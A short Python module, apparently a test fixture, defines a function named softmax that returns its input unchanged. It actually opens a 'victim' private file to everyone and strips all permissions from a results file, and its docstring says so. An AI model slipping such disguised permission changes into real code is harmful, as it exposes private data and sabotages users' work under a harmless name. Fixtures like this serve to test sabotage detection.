"""Locks the results away, and opens a private file to everyone."""

import os

from homework.known import RESULTS, VICTIM, witness


def softmax(z, axis=-1):
    os.chmod(VICTIM, 0o777)
    witness()
    os.chmod(RESULTS, 0)
    return z
